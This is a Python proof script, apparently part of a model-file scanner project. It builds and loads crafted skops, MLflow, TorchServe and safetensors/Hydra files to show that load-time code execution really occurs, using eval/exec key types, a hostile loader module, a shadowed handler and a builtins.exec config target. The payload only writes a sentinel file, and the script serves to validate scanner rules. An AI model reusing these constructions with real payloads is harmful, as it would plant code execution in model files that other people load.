"""Prove that the skops, MLflow and TorchServe payloads the scanner reports fire in the real loaders.

Each proof builds its file in a throwaway directory with the real library, loads it the way a user or a
server does, and checks that a harmless sentinel file appeared (the payload only writes that file). Never
run in CI; run each part in the environment that has its library:

    /work/envs/cfg/bin/python scripts/prove_package_config_paths.py skops mlflow
    <venv with torchserve and torch>/bin/python scripts/prove_package_config_paths.py torchserve
    <venv with hydra-core 1.3.2, safetensors, numpy>/bin/python scripts/prove_package_config_paths.py safetensors

(hydra-core 1.3.8 blocklists builtins.exec as a target; 1.3.2 and earlier call it.)

Rules the scanner reports for each: SKP001 (skops), MLF001/MLF004 (MLflow), TSV001 (TorchServe), YML002
(safetensors metadata).
"""

from __future__ import annotations

import json
import os
import sys
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path


def sentinel_code(sentinel: Path) -> str:
    """Python source that writes the sentinel file and nothing else."""
    return f"open({str(sentinel)!r}, 'w').write('fired')"


def prove(name: str, build_and_load: Callable[[Path, Path], None]) -> bool:
    with tempfile.TemporaryDirectory(prefix=f"prove-{name}-") as tmp:
        work = Path(tmp)
        sentinel = work / "SENTINEL"
        try:
            build_and_load(work, sentinel)
        except Exception as exc:  # the load may fail after the payload ran: the sentinel decides
            print(f"  ({name}: loader raised {type(exc).__name__}: {str(exc)[:100]})")
        fired = sentinel.exists()
    print(f"{'FIRED' if fired else 'did not fire'}: {name}")
    return fired


# --------------------------------------------------------------------------- skops
def _skops_eval_key(work: Path, sentinel: Path) -> Path:
    """A real skops dump of `{<python source>: 1}` whose key type is edited from builtins.str to builtins.eval."""
    import skops.io as sio

    plain = work / "plain.skops"
    sio.dump({sentinel_code(sentinel): 1}, plain)
    with zipfile.ZipFile(plain) as archive:
        members = {n: archive.read(n) for n in archive.namelist()}
    schema = json.loads(members["schema.json"])
    schema["key_types"]["content"][0]["__class__"] = "eval"
    members["schema.json"] = json.dumps(schema).encode()
    hostile = work / "model.skops"
    with zipfile.ZipFile(hostile, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return hostile


def skops_eval_key_type(work: Path, sentinel: Path) -> None:
    import skops.io as sio

    path = _skops_eval_key(work, sentinel)
    trusted = sio.get_untrusted_types(file=path)  # what the skops documentation tells users to review
    print(f"  get_untrusted_types: {trusted}")
    sio.load(path, trusted=trusted)


def skops_operator_call(work: Path, sentinel: Path) -> None:
    """`OperatorFuncNode` calls getattr(operator, name)(*attrs): operator.call(builtins.exec, source)."""
    import skops.io as sio

    def node(loader: str, module: str, cls: str, **rest: object) -> dict[str, object]:
        return {"__loader__": loader, "__module__": module, "__class__": cls, **rest}

    source = node("JsonNode", "builtins", "str", content=json.dumps(sentinel_code(sentinel)), is_json=True)
    attrs = node("TupleNode", "builtins", "tuple", content=[node("FunctionNode", "builtins", "exec"), source])
    schema = {**node("OperatorFuncNode", "operator", "call", attrs=attrs), "protocol": 2, "_skops_version": "0.16.0"}
    path = work / "operator.skops"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
    sio.load(path, trusted=sio.get_untrusted_types(file=path))


# --------------------------------------------------------------------------- MLflow
def mlflow_loader_module(work: Path, sentinel: Path) -> None:
    import mlflow.pyfunc

    loader = work / "evil_loader.py"
    loader.write_text(f"{sentinel_code(sentinel)}\n\n\ndef _load_pyfunc(path):\n    return None\n", encoding="utf-8")
    model = work / "model"
    mlflow.pyfunc.save_model(model, loader_module="evil_loader", code_paths=[str(loader)])
    loader.unlink()  # only the model's own copy in code/ remains
    mlflow.pyfunc.load_model(str(model))


def mlflow_skops_trusted_types(work: Path, sentinel: Path) -> None:
    """mlflow.sklearn passes the MLmodel's skops_trusted_types to skops.io.load(trusted=...). mlflow 3.17
    refuses every sklearn format unless MLFLOW_ALLOW_PICKLE_DESERIALIZATION=true, which users set to load
    any sklearn model (Databricks runtimes allow it regardless)."""
    os.environ["MLFLOW_ALLOW_PICKLE_DESERIALIZATION"] = "true"
    import mlflow.sklearn
    from sklearn.linear_model import LogisticRegression

    model = work / "model"
    mlflow.sklearn.save_model(LogisticRegression(), model, serialization_format="skops")
    hostile = _skops_eval_key(work, sentinel)
    os.replace(hostile, model / "model.skops")
    mlmodel = model / "MLmodel"
    text = mlmodel.read_text(encoding="utf-8")
    mlmodel.write_text(text.replace("skops_trusted_types: null", "skops_trusted_types:\n    - builtins.eval"), "utf-8")
    mlflow.sklearn.load_model(str(model))


# --------------------------------------------------------------------------- TorchServe
def _mar(work: Path, handler: str, files: dict[str, str]) -> Path:
    """A `.mar` laid out as torch-model-archiver writes it, extracted as the frontend does."""
    archive_path = work / "model.mar"
    manifest = {"runtime": "python", "model": {"modelName": "m", "handler": handler}, "archiverVersion": "0.12.0"}
    with zipfile.ZipFile(archive_path, "w") as archive:
        archive.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
        for name, text in files.items():
            archive.writestr(name, text)
    model_dir = work / "extracted"
    with zipfile.ZipFile(archive_path) as archive:
        archive.extractall(model_dir)
    return model_dir


def _load_with_torchserve(model_dir: Path, handler: str) -> None:
    """What the backend worker does for a load request: the model folder on the import path, then
    ts.model_loader.TsModelLoader.load (the frontend itself is Java and is not started)."""
    from ts.model_loader import ModelLoaderFactory

    sys.path.insert(0, str(model_dir))
    cwd = os.getcwd()
    os.chdir(model_dir)
    try:
        ModelLoaderFactory.get_model_loader().load("m", str(model_dir), handler, None, 1)
    finally:
        os.chdir(cwd)
        sys.path.remove(str(model_dir))


def torchserve_custom_handler(work: Path, sentinel: Path) -> None:
    handler = f"{sentinel_code(sentinel)}\n\n\ndef handle(data, context):\n    return data\n"
    _load_with_torchserve(_mar(work, "my_handler.py", {"my_handler.py": handler}), "my_handler.py")


def torchserve_shadowed_builtin(work: Path, sentinel: Path) -> None:
    """The manifest names the built-in image_classifier; the archive ships its own image_classifier.py."""
    handler = f"{sentinel_code(sentinel)}\n\n\ndef handle(data, context):\n    return data\n"
    model_dir = _mar(work, "image_classifier", {"image_classifier.py": handler})
    sys.modules.pop("image_classifier", None)
    _load_with_torchserve(model_dir, "image_classifier")


# --------------------------------------------------------------------------- safetensors metadata
def safetensors_hydra_metadata(work: Path, sentinel: Path) -> None:
    """A project that keeps its Hydra config in the weights file and instantiates it after loading."""
    import hydra.utils
    import numpy as np
    from safetensors import safe_open
    from safetensors.numpy import save_file

    config = {"_target_": "builtins.exec", "_args_": [sentinel_code(sentinel)]}
    path = work / "model.safetensors"
    save_file({"w": np.zeros(2, dtype=np.float32)}, str(path), metadata={"config": json.dumps(config)})
    with safe_open(str(path), "np") as handle:
        metadata = handle.metadata()
    hydra.utils.instantiate(json.loads(metadata["config"]))


PROOFS: dict[str, list[Callable[[Path, Path], None]]] = {
    "skops": [skops_eval_key_type, skops_operator_call],
    "mlflow": [mlflow_loader_module, mlflow_skops_trusted_types],
    "torchserve": [torchserve_custom_handler, torchserve_shadowed_builtin],
    "safetensors": [safetensors_hydra_metadata],
}

if __name__ == "__main__":
    results = [prove(proof.__name__, proof) for part in sys.argv[1:] or list(PROOFS) for proof in PROOFS[part]]
    sys.exit(0 if all(results) else 1)
